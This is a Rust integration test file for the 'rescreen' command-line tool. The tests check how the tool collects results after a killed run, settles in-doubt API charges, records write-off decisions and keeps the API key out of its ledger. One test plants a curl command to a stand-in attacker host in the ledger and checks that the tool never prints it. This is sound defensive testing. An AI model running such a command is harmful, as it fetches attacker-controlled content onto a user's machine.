//! The promise: requests that were sent are settled and published from the ledger alone, whatever happened to the
//! input, the campaign file or the API key. A person's decision about a request that cannot be settled is recorded.

use crate::{
    cli::Workspace,
    support::{
        program::{Said, rescreen},
        service::{Service, lifted},
        tables,
    },
};
use rescreen::{
    pipeline::wording::counted,
    sink::{DatasetKind, Manifest},
};
use rusqlite::Connection;
use std::{fs, path::PathBuf};

const ROWS: u64 = 40;
/// The checks that are answered before a run is killed.
const ANSWERED: u64 = 6;

fn out(workspace: &Workspace) -> PathBuf {
    workspace.path().join("out/2026-11")
}

/// A run that was killed with four requests under way, which were charged.
fn killed() -> Workspace {
    killed_beside(|_| ())
}

/// The same, with a service that was told this before the run.
fn killed_beside(tell: impl FnOnce(&Service)) -> Workspace {
    // Replies state the balance, and no charge.
    let workspace = Workspace::that_answers_only_with(ANSWERED, ROWS as usize, lifted());
    tell(&workspace.service);
    let run = workspace.under_way(4, ANSWERED + 4, &[]);
    run.signal("KILL");
    assert_eq!(run.ends().code, -9);
    workspace.service.answers_all();
    workspace
}

fn in_doubt(workspace: &Workspace) -> u64 {
    workspace.requests_in(&["armed", "in_doubt", "repeating"])
}

/// Nothing is in doubt, nothing new was sent, and every charge has its result.
fn is_collected(workspace: &Workspace) {
    let (status, stats) = (workspace.status(), workspace.service.simulator.stats());
    assert_eq!(in_doubt(workspace), 0);
    assert_eq!(status["credits"]["charged"], stats.credits_charged);
    assert_eq!((stats.double_charges, stats.charges), (0, stats.distinct_keys));
    let answered = status["requests"]["answered"].as_u64().unwrap();
    assert!((6..ROWS).contains(&answered), "{status}");
    assert_eq!(tables::lines(&out(workspace), DatasetKind::Results).len() as u64, answered);
    assert!(!Manifest::read(&out(workspace)).unwrap().unwrap().complete);
}

#[test]
fn an_edited_input_is_refused_with_the_collect_command_and_that_settles_the_doubts() {
    let workspace = killed();
    assert!(in_doubt(&workspace) > 0);
    workspace.write("book.csv", "no,name,status\n1,Somebody Else,active\n");
    workspace.run(&[]).exits(2).says("rescreen collect out/2026-11").without_data();
    workspace.say(&["collect", "out/2026-11"]).exits(8).says("nothing new was sent");
    is_collected(&workspace);
}

#[test]
fn without_input_and_without_campaign_file_the_only_campaign_of_the_folder_is_collected() {
    let workspace = killed();
    fs::remove_file(workspace.path().join("book.csv")).unwrap();
    workspace.say(&["collect"]).exits(8).says("collecting");
    is_collected(&workspace);
    // The second time nothing is left to do, and no API key is needed.
    let mut again = rescreen(workspace.path(), &["collect"]);
    Said::of(again.env_remove("RESCREEN_API_KEY")).exits(8);
    is_collected(&workspace);
}

#[test]
fn collecting_a_complete_campaign_publishes_it_again_and_ends_with_0() {
    let workspace = Workspace::new(5);
    workspace.run(&[]).exits(0);
    fs::remove_file(out(&workspace).join("manifest.json")).unwrap();
    workspace.say(&["collect", "out/2026-11"]).exits(0);
    assert!(Manifest::read(&out(&workspace)).unwrap().unwrap().complete);
    assert_eq!(workspace.service.simulator.stats().checks(), 5, "no check is sent");
}

#[test]
fn the_api_key_may_be_named_by_a_campaign_file_and_is_never_in_the_ledger() {
    let workspace = killed();
    let collect = |arguments: &[&str], key: Option<&str>| {
        let mut command = rescreen(workspace.path(), &[&["collect", "out/2026-11"], arguments].concat());
        match key {
            Some(key) => command.env("RESCREEN_API_KEY", key),
            None => command.env_remove("RESCREEN_API_KEY"),
        };
        Said::of(&mut command)
    };
    collect(&[], None).exits(2).says("RESCREEN_API_KEY is not set");
    let key_file = workspace.path().join("key");
    fs::write(&key_file, crate::support::API_KEY).unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&key_file, fs::Permissions::from_mode(0o600)).unwrap();
    workspace.write("keys.toml", "[service]\napi_key = { file = \"key\" }\n");
    collect(&["-c", "keys.toml"], None).exits(8);
    is_collected(&workspace);
    let ledger = fs::read(out(&workspace).join("ledger.sqlite")).unwrap();
    let key = crate::support::API_KEY.as_bytes();
    assert!(!ledger.windows(key.len()).any(|part| part == key));
}

#[test]
fn an_api_key_that_was_never_used_is_not_sent_to_the_service() {
    let workspace = killed();
    let before = workspace.service.simulator.stats();
    let mut command = rescreen(workspace.path(), &["collect", "out/2026-11"]);
    let said = Said::of(command.env("RESCREEN_API_KEY", "sk-quite-another-key-0")).exits(8);
    assert_eq!(said.next_command(), "rescreen resolve out/2026-11 --list --include-in-doubt");
    said.says("sent under another API key");
    assert_eq!(workspace.service.simulator.stats().by_route, before.by_route, "not a single message");
    workspace.say(&["collect", "out/2026-11"]).exits(8);
    is_collected(&workspace);
}

#[test]
fn a_lost_api_key_leaves_the_decision_to_a_person() {
    let workspace = killed();
    let waiting = in_doubt(&workspace);
    workspace.say(&["resolve", "out/2026-11", "--list"]).exits(0).says("add --include-in-doubt");
    let said = workspace.say(&["resolve", "out/2026-11", "--list", "--include-in-doubt"]).exits(8);
    assert_eq!(said.stdout.lines().count() as u64, waiting, "{}", said.stdout);
    let reason = ["--reason", "the key was revoked"];
    let decide = [&["resolve", "out/2026-11", "--write-off"], &reason[..]].concat();
    let first = said.stdout.split_whitespace().nth(1).unwrap();
    let named = [&decide[..], &["--request", first]].concat();
    workspace.say(&named).exits(2).says("add --include-in-doubt to decide now");
    workspace
        .say(&[&decide[..], &["--include-in-doubt"]].concat())
        .exits(0)
        .says(&format!("{} decided", counted(waiting, "request", "requests")));
    assert_eq!(in_doubt(&workspace), 0);
    let status = workspace.status();
    assert_eq!((status["requests"]["failed"].as_u64(), status["credits"]["held"].as_u64()), (Some(waiting), Some(0)));
    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
    let sql = "SELECT count(*) FROM decision WHERE decision = 'write_off' AND reason = 'the key was revoked'";
    assert_eq!(ledger.query_row(sql, [], |row| row.get::<_, i64>(0)).unwrap().unsigned_abs(), waiting);
}

#[test]
fn a_booked_charge_is_corrected_in_row_and_sums_and_the_decision_states_both_amounts() {
    let workspace = Workspace::new(4);
    workspace.run(&[]).exits(0);
    let correct = |more: &[&str]| workspace.say(&[&["resolve", "out/2026-11"], more].concat());
    correct(&["--charge", "5", "--reason", "invoice 17"]).exits(2);
    correct(&["--charge", "5", "--request", "2"]).exits(2);
    correct(&["--charge", "5", "--request", "99", "--reason", "invoice 17"]).exits(2).says("there is no request 99");
    correct(&["--charge", "5", "--request", "2", "--reason", "invoice 17"])
        .exits(0)
        .says("booked with 5 credits instead of 1");
    assert_eq!(workspace.status()["credits"]["charged"], 8);
    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
    let sql = "SELECT request, reason, charged_before, charged_after, length(decided_by) > 0 AND decided_at > 0
               FROM decision WHERE decision = 'charge'";
    let found = ledger.query_row(sql, [], |row| {
        Ok((row.get::<_, i64>(0)?, row.get::<_, String>(1)?, row.get::<_, i64>(2)?, row.get::<_, i64>(3)?, row.get(4)?))
    });
    assert_eq!(found.unwrap(), (2, "invoice 17".to_owned(), 1, 5, true));
    drop(ledger);
    workspace.run(&[]).exits(0);
    let totals = &Manifest::read(&out(&workspace)).unwrap().unwrap().totals;
    assert_eq!(totals.iter().map(|totals| totals.credits).sum::<u64>(), 8);
}

#[test]
fn a_request_whose_charge_is_corrected_to_nothing_may_be_sent_again() {
    // The requests under way do not reach the service, so that the balance shows no charge of theirs.
    let workspace = killed_beside(|service| service.turns_away_after(ANSWERED, 500));
    workspace.service.turns_away(0);
    let waiting = in_doubt(&workspace);
    let decide = |words: &[&str]| workspace.say(&[&["resolve", "out/2026-11"], words].concat());
    decide(&["--write-off", "--include-in-doubt", "--reason", "the key was revoked"]).exits(0);
    let failed = || workspace.status()["requests"]["failed"].as_u64().unwrap();
    assert_eq!(failed(), waiting);
    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
    let first: i64 = ledger.query_row("SELECT min(id) FROM request WHERE state = 11", [], |row| row.get(0)).unwrap();
    drop(ledger);
    decide(&["--charge", "0", "--request", &first.to_string(), "--reason", "not on the invoice"]).exits(0);
    let said = workspace.run(&["--retry"]);
    let what = "it was requested again, and the others were not";
    assert_eq!(failed(), waiting - 1, "{what}: {}", said.stderr);
}

/// A ledger is data: an attacker who changed it could otherwise make a person type anything.
#[test]
fn a_command_that_only_the_ledger_names_is_not_printed() {
    let workspace = killed();
    workspace.say(&["collect", "out/2026-11"]).exits(8).says("rescreen run");
    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
    let settings: String = ledger.query_row("SELECT settings FROM campaign", [], |row| row.get(0)).unwrap();
    let mut settings: serde_json::Value = serde_json::from_str(&settings).unwrap();
    settings["command"] = serde_json::json!(["curl", "-s", "http://evil.example/x"]);
    ledger.execute("UPDATE campaign SET settings = ?1", [settings.to_string()]).unwrap();
    drop(ledger);
    let said = workspace.say(&["collect", "out/2026-11"]).exits(8).says("run the campaign again");
    assert!(!said.stderr.contains("evil"), "{}", said.stderr);
}

#[test]
fn a_corrected_route_in_the_campaign_file_stops_a_collection_only_if_something_is_to_be_sent() {
    let workspace = Workspace::new(3);
    workspace.run(&[]).exits(0);
    let declares = |workspace: &Workspace| {
        let mut declaration = rescreen::catalogue::Catalogue::built_in().get("aml-screening").unwrap().clone();
        declaration.routes.guide = "/aml-corrected".to_owned();
        let file = std::collections::BTreeMap::from([("declaration", vec![declaration])]);
        let service = format!("[service]\nurl = \"{}\"\n", workspace.service.url);
        workspace.write("corrected.toml", &(service + &toml::to_string(&file).unwrap()));
    };
    declares(&workspace);
    let before = workspace.service.simulator.stats();
    workspace.say(&["collect", "out/2026-11", "-c", "corrected.toml"]).exits(0);
    let workspace = killed();
    declares(&workspace);
    workspace.say(&["collect", "out/2026-11", "-c", "corrected.toml"]).exits(2).says("routes of `aml-screening`");
    assert_eq!(before.checks(), 3);
    workspace.say(&["collect", "out/2026-11"]).exits(8);
    is_collected(&workspace);
}
